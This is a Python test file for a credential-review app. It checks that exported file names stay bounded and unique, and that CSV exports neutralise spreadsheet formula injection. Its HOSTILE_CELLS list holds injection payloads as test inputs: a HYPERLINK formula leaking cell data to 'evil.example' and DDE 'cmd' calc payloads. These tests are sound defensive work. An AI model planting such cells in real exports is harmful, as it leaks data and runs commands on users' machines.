"""Output files are named boundedly, uniquely and recognizably whatever the ids and
names (issue 12, item 14), and no CSV cell runs as a spreadsheet formula (item 17)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from reviewer_app import csv_safe, output_names
from reviewer_app.credentials.export import export
from reviewer_app.evidence.importer import Importer
from reviewer_app.storage.datafolder import DataFolder
from tests import craft
from tests.credentials.conftest import PASSPHRASE, pass_submission

HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def _import(folder: DataFolder, tmp_path: Path, bundles: list[dict[str, object]]) -> None:
    paths = []
    for n, fields in enumerate(bundles):
        files = {"plan.pdf": craft.text_pdf(f"plan {n}")}
        paths.append(craft.bundle_zip(tmp_path / f"b{n}.zip", files, **fields))
    report = Importer(folder).import_paths(paths)
    assert len(report.imported) == len(bundles), report


def test_awkward_ids_and_names_give_bounded_unique_recognizable_files(
    issuing_folder: DataFolder, tmp_path: Path
) -> None:
    long_id = "L" * 200
    ids = ["COL/1", "COL 1", "COL:1", long_id]
    earner = {"id": "mailto:col@example.org", "name": "Col Byrne", "email": "col@example.org"}
    cjk = {"id": "mailto:wang@example.org", "name": "王小明", "email": "wang@example.org"}
    bundles: list[dict[str, object]] = [{"submission_id": i, "earner": earner} for i in ids]
    bundles.append({"submission_id": "CJK-1", "earner": cjk})
    _import(issuing_folder, tmp_path, bundles)
    for submission_id in [*ids, "CJK-1"]:
        pass_submission(issuing_folder, submission_id)
    out = tmp_path / "out"
    result = export(issuing_folder, out, passphrase=PASSPHRASE, actor="lead")
    by_id = {e.submission_id: e.files for e in result.exported}
    assert set(by_id) >= {*ids, "CJK-1"}
    names = [f for files in by_id.values() for f in files]
    assert len(names) == len(set(names))  # one file per credential, never shared
    for name in names:
        assert len(Path(name).name.encode("utf-8")) <= 120
        assert (out / name).is_file()
    assert "王小明" in by_id["CJK-1"][0] and "issuer" not in by_id["CJK-1"][0].lower()
    assert all("col-byrne" in by_id[i][0] for i in ids[:3])
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    listed = [entry["path"] for entry in manifest["files"]]
    assert len(listed) == len(set(listed))


def test_names_are_unique_for_ids_a_slug_would_merge() -> None:
    ids = ["COL/1", "COL 1", "COL:1", "COL-1", "COL_1", "col-1", "COL-1~" + "0" * 10]
    names = [output_names.exact_name(i, fallback="x") for i in ids]
    assert len(set(names)) == len(names)
    assert output_names.exact_name("FAP-1", fallback="x") == "FAP-1"  # unchanged when safe
    assert len(output_names.exact_name("é" * 300, fallback="x").encode()) <= 72
    assert output_names.exact_name("../..", fallback="x").startswith("x~")


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_csv_cells_never_start_a_formula(cell: str) -> None:
    out = io.StringIO()
    csv_safe.writer(out).writerow([cell, "-3", 2.5, "Ana"])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[0].startswith("'") and row[0][1:] == cell
    assert row[1:] == ["-3", "2.5", "Ana"]


def test_upload_csvs_keep_hostile_names_and_emails_as_text(
    issuing_folder: DataFolder, tmp_path: Path
) -> None:
    from reviewer_app.storage.models import Earner

    with issuing_folder.sessions.begin() as session:
        for earner in session.query(Earner):
            earner.name = HOSTILE_CELLS[0] + " " + HOSTILE_CELLS[1]
            earner.email = "@SUM(1+1)@example.org"
    out = tmp_path / "out"
    export(issuing_folder, out, passphrase=PASSPHRASE, actor="lead")
    for name in ("upload/credly.csv", "upload/canvas-credentials.csv"):
        text = (out / name).read_bytes().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 1
        for row in rows[1:]:
            for cell in row:
                assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "@")), (name, row)
                assert not (cell.startswith("-") and not cell[1:].replace(".", "").isdigit())


def test_names_keep_every_script_and_drop_controls() -> None:
    assert output_names.label("हिन्दी नाम", fallback="x") == "हिन्दी-नाम"
    assert output_names.label("\u202eevil\u202c name", fallback="x") == "evil-name"
    assert output_names.label("🙂", fallback="earner") == "earner"
